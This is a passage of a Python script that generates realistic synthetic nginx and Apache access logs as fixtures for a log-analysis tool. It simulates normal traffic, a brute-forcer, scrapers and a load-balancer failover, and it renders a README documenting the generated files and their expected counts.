    bg_v6 = make_ipv6_pool(rng, 28)
    clients = []  # (ip, [uas], xff-generator or None)
    pool = bg_v4 + bg_v6
    rng.shuffle(pool)
    for rank, ip in enumerate(pool):
        uas = [rng.choices([u for u, _, _ in BROWSER_UAS], [w for _, w, _ in BROWSER_UAS])[0]]
        xff = None
        if rank < 6 and ":" not in ip:  # office/school NATs: several people behind one IP
            uas = rng.sample([u for u, _, _ in BROWSER_UAS], 5)
        if rank in (2, 9, 17, 31, 44, 70):  # corporate proxies that add X-Forwarded-For
            inner = ["10.0.%d.%d" % (rng.randint(0, 9), rng.randint(2, 250)) for _ in range(4)]
            if rank == 9:
                xff = ("203.0.113.7, 10.0.0.2",)
            else:
                xff = tuple(inner) + ("203.0.113.7, 10.0.0.2",)
        clients.append((ip, uas, xff))
    weights = [1.0 / (rank + 3) ** 0.95 for rank in range(len(clients))]

    n_sessions = 520
    seen = set()
    for _ in range(n_sessions):
        ip, uas, xffs = rng.choices(clients, weights)[0]
        ua = rng.choice(uas)
        xff = rng.choice(xffs) if xffs else None
        returning = (ip, ua) in seen and rng.random() < 0.8
        seen.add((ip, ua))
        browser_session(ev, rng, sample_session_start(rng), ip, ua, xff, returning)
    section("browsers")

    # --- the shop's mobile app: JSON API and images, no referer ---
    carriers = make_ipv4_pool(rng, 4, taken)  # carrier-grade NAT: many phones, one address
    app_clients = [(ip, None) for ip in carriers] + [(ip, None) for ip in pool[120:320]]
    app_weights = [4.0] * len(carriers) + [1.0 / (k + 3) ** 0.6 for k in range(200)]
    for _ in range(470):
        ip, _ = rng.choices(app_clients, app_weights)[0]
        ua = UA_APP_IOS if rng.random() < 0.6 else UA_APP_ANDROID
        app_session(ev, rng, sample_session_start(rng), ip, ua)
    section("app")

    for name, n in sections:
        print("  nginx-log %-9s %6d events" % (name, n))
    # --- 502s while the app was being redeployed at 22:47 ---
    outage = (epoch(2025, 1, 31, 22, 47, 12), epoch(2025, 1, 31, 22, 47, 41))
    for e in ev.items:
        if outage[0] <= e["t"] < outage[1] and e["ip"] not in (IP_MONITOR,) and e["tag"] is None \
                and isinstance(e["request"], str) and not e["request"].split(" ")[1].startswith("/static/"):
            e["status"], e["bytes"] = 502, NGX_PAGE[502]
    ev.items = [e for e in ev.items if NG_START <= e["t"] <= NG_END]
    # a few clients hang up before the answer (nginx's 499)
    for e in ev.items:
        if e["slow"] and e["tag"] is None and e["status"] == 200 and rng.random() < 0.006:
            e["status"], e["bytes"] = 499, 0

    # --- trim browser lines down to the exact line budget ---
    n_valid = NG_TOTAL_LINES - 3
    browser_ids = [i for i, e in enumerate(ev.items)
                   if e["ua"] in {u for u, _, _ in BROWSER_UAS} and e["tag"] is None
                   and e["ip"] not in SPECIAL_IPS and e["user"] is None]
    excess = len(ev.items) - n_valid
    if excess < 0:
        sys.exit("nginx-log: %d lines short; raise n_sessions" % -excess)
    drop = set(rng.sample(browser_ids, excess))
    ev.items = [e for i, e in enumerate(ev.items) if i not in drop]
    assert len(ev.items) == n_valid

    # --- write order: time order, except ~1% slow requests written 1-30 s late ---
    ev.items.sort(key=lambda e: e["t"])
    for seq, e in enumerate(ev.items):
        e["seq"] = seq
        e["w"] = e["t"]
    cands = [e for e in ev.items if e["tag"] is None and e["t"] < NG_END - 40]
    slow_cands = [e for e in cands if e["slow"]]
    late = rng.sample(slow_cands, 120) + rng.sample([e for e in cands if not e["slow"]], 50)
    for e in late:
        e["w"] = e["t"] + min(30.0, 1.0 + rng.expovariate(1 / 6.0))
    # one slow request spans midnight (and the month boundary) ...
    m = min((e for e in cands if epoch(2025, 1, 31, 23, 59, 44) <= e["t"] < epoch(2025, 1, 31, 23, 59, 50)
             and e["ip"] == IP_SCRAPER), key=lambda e: e["t"])
    m["w"] = m["t"] + 27.5
    # ... and one takes the full 30 s
    lng = [e for e in slow_cands if epoch(2025, 2, 1, 1, 20) <= e["t"] < epoch(2025, 2, 1, 1, 30)][0]
    lng["w"] = lng["t"] + 30.0
    ev.items.sort(key=lambda e: (e["w"], e["seq"]))

    lines = [nginx_main_line(e).encode("ascii") for e in ev.items]

    # --- exactly three genuinely malformed lines ---
    def insert_at_time(t, data):
        for i, e in enumerate(ev.items):
            if e is not None and e["w"] > t:
                lines.insert(i, data)
                ev.items.insert(i, None)
                return
        raise AssertionError

    # 1. truncated mid-line (the rest never reached the disk), during the 22:47 redeploy
    full = nginx_main_line({"ip": "198.51.100.61", "user": None, "t": epoch(2025, 1, 31, 22, 47, 13),
                            "request": "GET /static/js/vendor.77c0d2.js HTTP/1.1", "status": 200,
                            "bytes": 187642, "referer": SITE + "/products/1130",
                            "ua": UA_CHROME_WIN, "xff": None})
    truncated = full[:full.index("shop.exa") + len("shop.exa")] + "\n"
    insert_at_time(epoch(2025, 1, 31, 22, 47, 13) + 0.5, truncated.encode("ascii"))
    # 2. binary junk (no NUL, no CR/LF inside)
    jr = random.Random(0xBAD)
    junk = bytes(jr.choice([b for b in range(1, 256) if b not in (0x0A, 0x0D)]) for _ in range(61))
    insert_at_time(epoch(2025, 2, 1, 0, 33, 50), junk + b"\n")
    # 3. an empty-ish garbage line
    insert_at_time(epoch(2025, 2, 1, 1, 55, 5), b'  - -  "\n')

    assert len(lines) == NG_TOTAL_LINES
    malformed = [i + 1 for i, e in enumerate(ev.items) if e is None]
    items = ev.items

    # --- facts for the README ---
    valid = [(i + 1, e) for i, e in enumerate(items) if e is not None]
    maxt = -1
    ooo = []
    for ln, e in valid:
        if int(e["t"]) < maxt:
            ooo.append((ln, maxt - int(e["t"])))
        maxt = max(maxt, int(e["t"]))
    midnight_ln = [i + 1 for i, e in enumerate(items) if e is m][0]
    oddities = {}
    for i, e in enumerate(items):
        if e is not None and e["tag"]:
            oddities.setdefault(e["tag"], []).append(i + 1)
        if e is not None and e["user"] is not None:
            oddities.setdefault("remote-user", []).append(i + 1)
    counts = {}
    for _, e in valid:
        counts[e["ip"]] = counts.get(e["ip"], 0) + 1
    status = {}
    for _, e in valid:
        status[e["status"]] = status.get(e["status"], 0) + 1
    facts = {
        "lines": lines, "malformed": malformed, "ooo": ooo, "midnight_ln": midnight_ln,
        "midnight": m, "oddities": oddities, "ips": counts, "status": status,
        "ipv6": len([ip for ip in counts if ":" in ip]),
        "referer_dash": sum(1 for _, e in valid if e["referer"] is None),
        "xff": sum(1 for _, e in valid if e["xff"] is not None),
        "zero": sum(1 for _, e in valid if e["bytes"] == 0),
        "valid": len(valid),
        "first": items[0]["t"], "last": items[-1]["t"],
        "before_midnight": sum(1 for _, e in valid if e["t"] < epoch(2025, 2, 1, 0, 0)),
        "scraper": counts[IP_SCRAPER], "brute": counts[IP_BRUTE], "monitor": counts[IP_MONITOR],
        "span": {ip: (hms(min(e["t"] for _, e in valid if e["ip"] == ip)),
                      hms(max(e["t"] for _, e in valid if e["ip"] == ip)))
                 for ip in (IP_SCRAPER, IP_BRUTE)},
        "browser_ips": len({e["ip"] for _, e in valid if e["ua"] in {u for u, _, _ in BROWSER_UAS}
                            and e["ip"] not in SPECIAL_IPS}),
        "xff_values": sorted({e["xff"] for _, e in valid if e["xff"]}),
        "brute401": sum(1 for _, e in valid if e["ip"] == IP_BRUTE and e["status"] == 401),
        "brute403": sum(1 for _, e in valid if e["ip"] == IP_BRUTE and e["status"] == 403),
    }
    return facts


# ---------------------------------------------------------------------------
# 2. lb/: nginx smooth weighted round robin over three apache backends
# ---------------------------------------------------------------------------
LB_START = epoch(2025, 2, 1, 10, 0, 0)
LB_RELOAD = epoch(2025, 2, 1, 10, 40, 0)
LB_END = epoch(2025, 2, 1, 10, 50, 0)
LB_DEAD = epoch(2025, 2, 1, 10, 39, 31)  # nginx-lb03 container stopped: connection refused
LB_BEFORE = 2400
LB_AFTER = 600
SITE_LB = "http://192.168.0.10"  # the lab host as browsers on the LAN address it
BACKENDS = [("lb01", "127.0.0.1:5001", 6), ("lb02", "127.0.0.1:5002", 2), ("lb03", "127.0.0.1:5003", 2)]


class Peer:
    """One `server` of an upstream, with the fields nginx's round robin keeps
    (src/http/ngx_http_upstream_round_robin.c)."""

    def __init__(self, name, addr, weight, down=False, max_fails=1, fail_timeout=10):
        self.name, self.addr, self.weight, self.down = name, addr, weight, down
        self.effective_weight = weight
        self.current_weight = 0
        self.fails = 0
        self.accessed = 0
        self.checked = 0
        self.max_fails = max_fails
        self.fail_timeout = fail_timeout


def rr_get_peer(peers, now, tried):
    """ngx_http_upstream_get_peer(): smooth weighted round robin."""
    best = None
    total = 0
    for i, p in enumerate(peers):
        if i in tried or p.down:
            continue
        if p.max_fails and p.fails >= p.max_fails and now - p.checked <= p.fail_timeout:
            continue
        p.current_weight += p.effective_weight
        total += p.effective_weight
        if p.effective_weight < p.weight:
            p.effective_weight += 1
        if best is None or p.current_weight > peers[best].current_weight:
            best = i
    if best is None:
        return None
    b = peers[best]
    b.current_weight -= total
    if now - b.checked > b.fail_timeout:
        b.checked = now
    return best


def rr_free_peer(p, now, failed):
    """ngx_http_upstream_free_round_robin_peer()."""
    if failed:
        p.fails += 1
        p.accessed = now
        p.checked = now
        if p.max_fails:
            p.effective_weight -= p.weight // p.max_fails
        if p.effective_weight < 0:
            p.effective_weight = 0
    elif p.accessed < p.checked:
        p.fails = 0


LB_PAGES = {  # path: (status, apache body bytes, apache header bytes)
    "/": (200, 329, 226),
    "/index.php": (200, 329, 226),
    "/status.php": (200, 66, 231),
    "/favicon.ico": (404, 274, 180),
    "/robots.txt": (404, 273, 180),
    "/images/docker.png": (200, 15316, 254),
    "/login.php": (302, 0, 312),
}


def gen_lb():
    rng = random.Random(5001)
    UA_AB = "ApacheBench/2.3"
    clients = [  # ip, [uas], xff
        ("127.0.0.1", ["curl/7.68.0"], None),          # `watch -n 1 curl localhost` on the lab host
        ("10.0.2.2", ["curl/7.68.0", "curl/7.68.0", UA_FIREFOX_LINUX], None),  # VirtualBox NAT gateway
        ("192.168.0.21", ["curl/8.5.0", UA_CHROME_WIN], None),
        ("192.168.0.35", ["Wget/1.21.2"], None),
        ("192.168.0.12", [UA_FIREFOX_WIN, "curl/8.5.0"], None),
        ("203.0.113.9", ["python-requests/2.31.0"], None),
        ("192.168.0.40", [UA_IPHONE], None),
        ("198.51.100.130", ["curl/7.81.0"], "203.0.113.7, 10.0.0.2"),
    ]
    extra_uas = ["curl/7.81.0", UA_CHROME_WIN, "curl/8.5.0", UA_ANDROID, "Wget/1.21.2",
                 UA_FIREFOX_WIN, "python-requests/2.31.0", "curl/7.68.0", "HTTPie/3.2.2"]
    for i in range(28):
        if i % 3 == 0:
            ip = "192.168.0.%d" % (50 + i)
        else:
            ip = rng.choice(["198.51.100.%d", "203.0.113.%d", "192.0.2.%d"]) % rng.randint(2, 254)
        if ip not in [c[0] for c in clients]:
            clients.append((ip, [extra_uas[i % len(extra_uas)]], None))
    weights = [1.0 / (k + 1) ** 1.15 for k in range(len(clients))]

    def arrivals(n, start, stop, ab_at, ab_n):
        # ab -n <ab_n> -c 4: a dense run of requests from the lab host
        times = sorted(rng.uniform(start, stop) for _ in range(n - ab_n))
        reqs = []
        for t in times:
            ip, uas, xff = rng.choices(clients, weights)[0]
            ua = rng.choice(uas)
            if ua.startswith(("curl", "Wget", "python")):
                path = rng.choices(["/", "/index.php", "/status.php"], [80, 10, 10])[0]
                method, proto = "GET", "HTTP/1.1"
            else:
                path = rng.choices(["/", "/favicon.ico", "/images/docker.png", "/index.php",
                                    "/login.php", "/robots.txt"], [55, 15, 15, 8, 5, 2])[0]
                method = "POST" if path == "/login.php" else "GET"
                proto = "HTTP/1.1"
            reqs.append([t, ip, method, path, proto, ua, xff])
        t = ab_at
        for _ in range(ab_n):
            t += rng.uniform(0.005, 0.03)
            reqs.append([t, "127.0.0.1", "GET", "/", "HTTP/1.0", UA_AB, None])
        reqs.sort(key=lambda r: r[0])
        return reqs

    before = arrivals(LB_BEFORE, LB_START, LB_RELOAD, epoch(2025, 2, 1, 10, 15, 7) + 0.2, 200)
    after = arrivals(LB_AFTER, LB_RELOAD, LB_END, epoch(2025, 2, 1, 10, 44, 21) + 0.6, 80)
    assert all(LB_START <= r[0] < LB_RELOAD for r in before)
    assert all(LB_RELOAD <= r[0] < LB_END for r in after)

    backend_lines = {"lb01": [], "lb02": [], "lb03": []}
    nginx_lines = []
    served = {"before": {"lb01": 0, "lb02": 0, "lb03": 0}, "after": {"lb01": 0, "lb02": 0, "lb03": 0}}
    first_pick = {"before": {"lb01": 0, "lb02": 0, "lb03": 0}, "after": {"lb01": 0, "lb02": 0, "lb03": 0}}
    retries = []
    served_healthy = {"lb01": 0, "lb02": 0, "lb03": 0}
    revalidated = set()
    for phase, reqs in (("before", before), ("after", after)):
        # `nginx -s reload` starts new workers with fresh round-robin state
        peers = [Peer(n, a, w, down=(phase == "after" and n == "lb03")) for n, a, w in BACKENDS]
        for t, ip, method, path, proto, ua, xff in reqs:
            now = int(t)
            tried = set()
            addrs, urts = [], []
            while True:
                i = rr_get_peer(peers, now, tried)
                assert i is not None
                p = peers[i]
                if not tried:
                    first_pick[phase][p.name] += 1
                tried.add(i)
                if p.name == "lb03" and now >= LB_DEAD:
                    rr_free_peer(p, now, failed=True)
                    addrs.append(p.addr)
                    urts.append("0.001" if not retries else "0.000")
                    continue
                rr_free_peer(p, now, failed=False)
                break
            status, body, head = LB_PAGES[path]
            if path == "/images/docker.png" and (ip, ua) in revalidated:
                status, body, head = 304, 0, 178
            if path == "/images/docker.png":
                revalidated.add((ip, ua))
            if path == "/status.php":
                body += rng.randint(0, 3)
            if status == 200 and path in ("/", "/index.php") and rng.random() < 0.5:
                # Apache answers HTTP/1.0 without chunking; header size varies with Date/Keep-Alive
                head += rng.choice((0, 0, 1))
            served[phase][p.name] += 1
            if now < LB_DEAD:
                served_healthy[p.name] += 1
            if status == 200 and path in ("/", "/index.php", "/status.php"):
                urt = 0.002 + rng.expovariate(1 / 0.004)
            elif path == "/login.php":
                urt = 0.008 + rng.expovariate(1 / 0.01)
            else:
                urt = 0.000 + rng.expovariate(1 / 0.0015)
            addrs.append(p.addr)
            urts.append("%.3f" % min(urt, 0.4))
            if len(addrs) > 1:
                urts[-1] = "0.004" if len(retries) == 0 else urts[-1]
                retries.append({"t": now, "addrs": ", ".join(addrs), "urts": ", ".join(urts),
                                "served": p.name, "nginx_ln": len(nginx_lines) + 1,
                                "backend_ln": len(backend_lines[p.name]) + 1})
            referer = SITE_LB + "/" if path in ("/favicon.ico", "/images/docker.png") else None
            backend_lines[p.name].append(
                '172.17.0.1 - - [%s] "%s %s HTTP/1.0" %d %d "%s" "%s"\n' % (
                    clf_time(now), method, path, status, body + head,
                    apache_escape(referer) if referer else "-", apache_escape(ua)))
            nginx_lines.append(
                '%s - - [%s] "%s %s %s" %d %d "%s" "%s" "%s" upstream=%s urt=%s\n' % (
                    ip, clf_time(now), method, path, proto, status, body,
                    nginx_escape(referer), nginx_escape(ua), nginx_escape(xff),
                    ", ".join(addrs), ", ".join(urts)))
    last = backend_lines["lb03"][-1]
    lb03_last = last[last.index("[") + 13:][:8]  # "[01/Feb/2025:" is 13 characters
    return {"backend": backend_lines, "nginx": nginx_lines, "served": served,
            "first_pick": first_pick, "retries": retries, "clients": len(clients),
            "lb03_last": lb03_last, "healthy": served_healthy,
            "nginx_ips": count_first_field(nginx_lines)}


def count_first_field(lines):
    c = {}
    for ln in lines:
        ip = ln.split(" ", 1)[0]
        c[ip] = c.get(ip, 0) + 1
    return c


def write(rel, data):
    path = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return len(data)


def top(counts, n):
    return sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))[:n]


def main():
    ng = gen_nginx_log()
    lb = gen_lb()
    sizes = {}
    sizes["nginx-log/access.log"] = write("nginx-log/access.log", b"".join(ng["lines"]))
    for name in ("lb01", "lb02", "lb03"):
        sizes["lb/%s/access.log" % name] = write("lb/%s/access.log" % name,
                                                 "".join(lb["backend"][name]).encode("ascii"))
    sizes["lb/nginx/access.log"] = write("lb/nginx/access.log", "".join(lb["nginx"]).encode("ascii"))
    readme = render_readme(ng, lb, sizes)
    sizes["README.md"] = write("README.md", readme.encode("utf-8"))
    sizes["generate.py"] = os.path.getsize(os.path.abspath(__file__))
    total = sum(sizes.values())
    for k, v in sizes.items():
        print("%-24s %9d bytes" % (k, v))
    print("%-24s %9d bytes" % ("total", total))
    assert total < 4000000, "sample-logs/ must stay under 4 MB"


def render_readme(ng, lb, sizes):
    s, fp = lb["served"], lb["first_pick"]
    nb = {k: len(v) for k, v in lb["backend"].items()}
    ooo = ng["ooo"]
    odd = ng["oddities"]
    mal = ng["malformed"]
    lines_of = lambda rel: {"nginx-log/access.log": NG_TOTAL_LINES,
                            "lb/lb01/access.log": nb["lb01"], "lb/lb02/access.log": nb["lb02"],
                            "lb/lb03/access.log": nb["lb03"],
                            "lb/nginx/access.log": len(lb["nginx"])}[rel]
    spans = {"nginx-log/access.log": "31/Jan/2025:21:30:00 – 01/Feb/2025:02:30:00 +0900",
             "lb/lb01/access.log": "01/Feb/2025:10:00 – 10:50 +0900",
             "lb/lb02/access.log": "01/Feb/2025:10:00 – 10:50 +0900",
             "lb/lb03/access.log": "01/Feb/2025:10:00 – %s +0900 (then stopped)" % lb["lb03_last"],
             "lb/nginx/access.log": "01/Feb/2025:10:00 – 10:50 +0900"}
    fmt = {"nginx-log/access.log": "nginx `main`", "lb/lb01/access.log": "apache2 `combined`",
           "lb/lb02/access.log": "apache2 `combined`", "lb/lb03/access.log": "apache2 `combined`",
           "lb/nginx/access.log": "nginx `main` + upstream"}
    rows = "\n".join("| `%s` | %s | %s | %s | %s |" % (
        rel, fmt[rel], spans[rel], "{:,}".format(lines_of(rel)), "{:,}".format(sizes[rel]))
        for rel in fmt)
    top_ng = "\n".join("| %d | `%s` | %s |" % (i + 1, ip, "{:,}".format(c))
                       for i, (ip, c) in enumerate(top(ng["ips"], 8)))
    top_lb = ", ".join("`%s` %d" % (ip, c) for ip, c in top(lb["nginx_ips"], 5))
    st = ", ".join("%d: %s" % (k, "{:,}".format(v)) for k, v in sorted(ng["status"].items()))
    m = ng["midnight"]
    lags = sorted(d for _, d in ooo)
    tot_b = sum(s["before"].values())
    tot_a = sum(s["after"].values())
    retry_rows = "\n".join(
        "| %s | `upstream=%s urt=%s` | %d | %s, line %d |" % (
            hms(r["t"]), r["addrs"], r["urts"], r["nginx_ln"], r["served"], r["backend_ln"])
        for r in lb["retries"])

    def pct(a, b):
        return "%.2f %%" % (100.0 * a / b)

    return f"""# sample-logs

Realistic access logs for logpulse's tests, demos and benchmarks. **Generated** — do not edit by hand:

```sh
python3 sample-logs/generate.py     # rewrites every file below, this README included
```

`generate.py` uses only the Python 3 standard library, fixed seeds and no clock, so every run writes
byte-identical files (a few seconds). Change the script, re-run it, commit the output. All addresses are
from documentation/benchmark ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 198.18.0.0/15,
2001:db8::/32) or private ranges; host names are under `.example`.

| file | format | time span | lines | bytes |
|---|---|---|---|---|
{rows}

Every file is in time order (except the out-of-order lines described below), every line ends with
`\\n`, every file ends with a newline. Only `nginx-log/access.log` contains non-ASCII bytes (one
malformed line).

## 1. `nginx-log/access.log` — the bind-mount lab (`docker run -v ~/nginx-log:/var/log/nginx nginx:1.19`)

What the official nginx image leaves on the host, with its default `main` format:

```nginx
log_format  main  '$remote_addr - $remote_user [$time_local] "$request" '
                  '$status $body_bytes_sent "$http_referer" '
                  '"$http_user_agent" "$http_x_forwarded_for"';
```

- **Span**: first line `31/Jan/2025:21:30:00 +0900`, last line `01/Feb/2025:02:30:00 +0900`; it crosses
  midnight **and** a month boundary ({"{:,}".format(ng["before_midnight"])} valid lines before midnight,
  {"{:,}".format(ng["valid"] - ng["before_midnight"])} after), so `$4 > "[31/Jan/2025:…"`-style string
  comparisons get ranges wrong.
- **Lines**: {"{:,}".format(NG_TOTAL_LINES)} = {"{:,}".format(ng["valid"])} valid + 3 malformed.
- **Clients**: {len(ng["ips"])} distinct addresses ({ng["ipv6"]} IPv6), heavy-tailed:

  | rank | address | lines |
  |---|---|---|
{chr(10).join("  " + r for r in top_ng.splitlines())}

  - `{IP_SCRAPER}` — scraper (`{UA_SCRAPER}`), {"{:,}".format(ng["scraper"])} lines from {ng["span"][IP_SCRAPER][0]} to {ng["span"][IP_SCRAPER][1]},
    paging through `/products?page=N&sort=newest` and every product; now and then nginx's `limit_req`
    answers 503.
  - `{IP_BRUTE}` — brute-forcer, {"{:,}".format(ng["brute"])} lines from {ng["span"][IP_BRUTE][0]} to {ng["span"][IP_BRUTE][1]}:
    `POST /wp-login.php` ({ng["brute401"]} × 401 from `auth_basic`, then {ng["brute403"]} × 403 once
    `deny` was added at 01:38:00).
  - `{IP_MONITOR}` — UptimeRobot, `HEAD /` every 30 s, 21:30:00 to 02:30:00 inclusive ({ng["monitor"]} lines, body 0).
  - crawlers (Googlebot on IPv4 and IPv6, bingbot, AhrefsBot, YandexBot, GPTBot, facebookexternalhit),
    16 vulnerability scanners (mostly 404), a few script/API clients (curl, wget, python, Go, HTTPie),
    the shop's mobile app (`ShopApp/341 CFNetwork/…`, `okhttp/4.12.0`; JSON API and images, no referer;
    4 carrier-grade-NAT addresses shared by many phones), and {ng["browser_ips"]} browser addresses (a few are
    office NATs with several browsers) whose visits fetch a page, then its css/js/font/images with the page as
    referer (fonts with the css as referer), `304`s for returning visitors, XHR calls to `/api/v1/…`.
- **Statuses**: {st}. The 502s are an app redeploy at 22:47:12–22:47:41; 499 = client hung up.
- **Body bytes**: {"{:,}".format(ng["zero"])} lines have `$body_bytes_sent` 0 (HEAD, 204, 302, 304, 499,
  `"-"` requests). nginx's own error pages have nginx/1.19.x sizes (400 → 157, 404 → 153, 301 → 169, …).
- **Referer** is `"-"` on {"{:,}".format(ng["referer_dash"])} valid lines; **X-Forwarded-For** is set on
  {"{:,}".format(ng["xff"])} lines (clients behind corporate proxies; values: {", ".join("`%s`" % x for x in ng["xff_values"])}), `"-"` otherwise.
- **`$remote_user`** is set on lines {", ".join(map(str, odd["remote-user"][:3]))}, … ({len(odd["remote-user"])} lines,
  basic auth on `/admin/`, one failed attempt as `admn` with 401).

### Valid oddities (real nginx output; a correct parser must accept and count them)

| what | line numbers |
|---|---|
| TLS ClientHello sent to port 80: `"\\x16\\x03\\x01\\x00\\xF1\\x01\\x00\\x00\\xED\\x03\\x03…" 400 157 "-" "-" "-"` (raw bytes escaped as `\\xHH`, printable bytes and spaces literal) | {", ".join(map(str, odd["tls"]))} |
| empty request: `"-" 400 0 "-" "-" "-"` | {", ".join(map(str, odd["empty-request"]))} |
| user agent containing `"`, written by nginx as `\\x22` | {", ".join(map(str, odd["quoted-ua"]))} |
| raw UTF-8 in the request line, escaped (`/tags/\\xE2\\x82\\xAC`, `?q=\\xE3\\x83\\x96…`) | {", ".join(map(str, odd["utf8"]))} |
| backslashes in the path, escaped as `\\x5C` | {", ".join(map(str, odd["backslash"]))} |
| `CONNECT host:443` proxy probe (400) and an absolute-URI request `GET http://www.example.com/` | {odd["connect"][0]}, {odd["absolute-uri"][0]} |

### Out-of-order lines

{len(ooo)} valid lines ({pct(len(ooo), ng["valid"])}) carry a `$time_local` earlier than some line above
them, by {lags[0]}–{lags[-1]} s (median {lags[len(lags) // 2]} s): slow requests whose line was written
after later requests had already been logged. One of them crosses midnight and the month boundary:
line {ng["midnight_ln"]} is stamped `{clf_time(m["t"])}` but follows lines of `01/Feb/2025:00:00:…`.
A reader needs a watermark with ≥ 30 s of bounded out-of-orderness to place every line in its minute.
(Apache's `%t` is the request's start and the line is written at its end, so this is the normal case
there; with nginx it appears when workers buffer their log writes, `access_log … buffer=`.)

### The 3 malformed lines (the only lines a parser should reject)

| line | what |
|---|---|
| {mal[0]} | truncated mid-way (written during the 22:47 redeploy): ends inside the referer, `…"http://shop.exa` — no closing quote, no user agent |
| {mal[1]} | 61 bytes of binary junk (bytes 0x01–0xFF, no NUL, no CR/LF; not valid UTF-8) |
| {mal[2]} | empty-ish garbage: `  - -  "` |

```sh
sed -n '{mal[0]}p;{mal[1]}p;{mal[2]}p' sample-logs/nginx-log/access.log | cat -v
```

## 2. `lb/` — the load-balancer lab (field guide §2)

Three PHP/Apache backends (`nginx-lb01..03`, ports 5001–5003, each bind-mounting its
`/var/log/apache2` to `lb/lb0N/`) behind nginx on the host:

```nginx
upstream backend-lb {{ server 127.0.0.1:5001 weight=6; server 127.0.0.1:5002 weight=2; server 127.0.0.1:5003 weight=2; }}
server {{ listen 80 default_server; location / {{ proxy_pass http://backend-lb; }} }}
```

### Backend logs `lb/lb01/access.log`, `lb/lb02/access.log`, `lb/lb03/access.log`

Debian apache2 `combined`: `%h %l %u %t "%r" %>s %O "%{{Referer}}i" "%{{User-Agent}}i"`.
- `%h` is always `172.17.0.1` (the docker0 gateway: the backends only ever see the proxy).
- `"%r"` says `HTTP/1.0`: nginx talks HTTP/1.0 to upstreams by default (`proxy_http_version`).
- `%O` is bytes sent **including headers**, so it is never 0 (a 302 or 304 is ~180–320; pages ~555;
  the image ~15,570).
- `%t` is in the same second as the proxy's `$time_local` for the same request.

### Proxy log `lb/nginx/access.log`

```nginx
log_format  upstreamlog  '$remote_addr - $remote_user [$time_local] "$request" '
                         '$status $body_bytes_sent "$http_referer" '
                         '"$http_user_agent" "$http_x_forwarded_for" '
                         'upstream=$upstream_addr urt=$upstream_response_time';
```

The same {"{:,}".format(len(lb["nginx"]))} requests with the real clients ({len(lb["nginx_ips"])} addresses,
heavy-tailed; top 5: {top_lb}; `127.0.0.1` is `watch -n 1 curl localhost` on the lab host plus two
`ab` runs, `ApacheBench/2.3`, at 10:15:07 and 10:44:21). `$body_bytes_sent` is the body only (0 for 302/304).
The proxy's line and the backend's line of one request have the same second, method and path.

### Timeline and the exact per-backend counts

1. **10:00:00–10:39:59** — weights 6/2/2, nginx's smooth weighted round robin (one worker process, or a
   shared `zone`; the generator runs nginx's algorithm: `current_weight += effective_weight`, pick the
   largest, subtract the total; failed peers lose `effective_weight` and sit out `fail_timeout`).
   Until {hms(LB_DEAD - 1)} every request is served by the backend picked first, and the picks repeat
   `lb01 lb02 lb01 lb03 lb01` — exactly 60/20/20 for any multiple of 5 requests.
2. **{hms(LB_DEAD)}** — `nginx-lb03` is stopped (`docker stop`): connecting to 5003 is refused, nginx retries
   on the next peer (default `proxy_next_upstream error timeout`, `max_fails=1 fail_timeout=10s`). The
   failed attempt is only in the proxy's `upstream=` list; the backend that served it logs it:

   | time | proxy line | proxy line no. | served by (backend log line) |
   |---|---|---|---|
{chr(10).join("   " + r for r in retry_rows.splitlines())}

3. **10:40:00** — `server 127.0.0.1:5003 weight=2 down;` and `nginx -s reload`: fresh round-robin
   state over lb01/lb02 with weights 6/2 (picks repeat `lb01 lb01 lb02 lb01`, 75/25).

| | requests | lb01 | lb02 | lb03 |
|---|---|---|---|---|
| 10:00:00–{hms(LB_DEAD - 1)}, all healthy | {sum(lb["healthy"].values())} | {lb["healthy"]["lb01"]} ({pct(lb["healthy"]["lb01"], sum(lb["healthy"].values()))}) | {lb["healthy"]["lb02"]} ({pct(lb["healthy"]["lb02"], sum(lb["healthy"].values()))}) | {lb["healthy"]["lb03"]} ({pct(lb["healthy"]["lb03"], sum(lb["healthy"].values()))}) |
| before 10:40 (10:00:00–10:39:59), served = backend log lines | {tot_b} | {s["before"]["lb01"]} ({pct(s["before"]["lb01"], tot_b)}) | {s["before"]["lb02"]} ({pct(s["before"]["lb02"], tot_b)}) | {s["before"]["lb03"]} ({pct(s["before"]["lb03"], tot_b)}) |
| before 10:40, first attempt (first address in `upstream=`) | {tot_b} | {fp["before"]["lb01"]} | {fp["before"]["lb02"]} | {fp["before"]["lb03"]} |
| after 10:40 (10:40:00–10:49:59), served | {tot_a} | {s["after"]["lb01"]} ({pct(s["after"]["lb01"], tot_a)}) | {s["after"]["lb02"]} ({pct(s["after"]["lb02"], tot_a)}) | {s["after"]["lb03"]} |
| whole file | {tot_b + tot_a} | {nb["lb01"]} | {nb["lb02"]} | {nb["lb03"]} |

Shares expected from the configuration: 60/20/20 before 10:40, 75/25/0 after. They are exact while all
three backends are up ({sum(lb["healthy"].values())} requests, a multiple of 5) and after 10:40 ({tot_a}, a
multiple of 4). Over the whole of 10:00–10:39:59 they are off by what the lb03 failure moved: the
{len(lb["retries"])} retried requests and lb03 sitting out `fail_timeout` (it then comes back with
`effective_weight` 0 and regains 1 per round). Faithful nginx cannot give exactly 480 to lb03 here:
a retried request is, by definition, served by another backend.

## Quick checks

```sh
wc -l sample-logs/nginx-log/access.log sample-logs/lb/*/access.log
awk '{{print $1}}' sample-logs/nginx-log/access.log | sort | uniq -c | sort -rn | head -5
for b in lb01 lb02 lb03; do
  printf '%s before=%s after=%s\\n' $b \\
    $(awk '$4 <  "[01/Feb/2025:10:40:00"' sample-logs/lb/$b/access.log | wc -l) \\
    $(awk '$4 >= "[01/Feb/2025:10:40:00"' sample-logs/lb/$b/access.log | wc -l)
done
grep -c ', 127.0.0.1' sample-logs/lb/nginx/access.log      # retried requests
```
"""


if __name__ == "__main__":
    main()
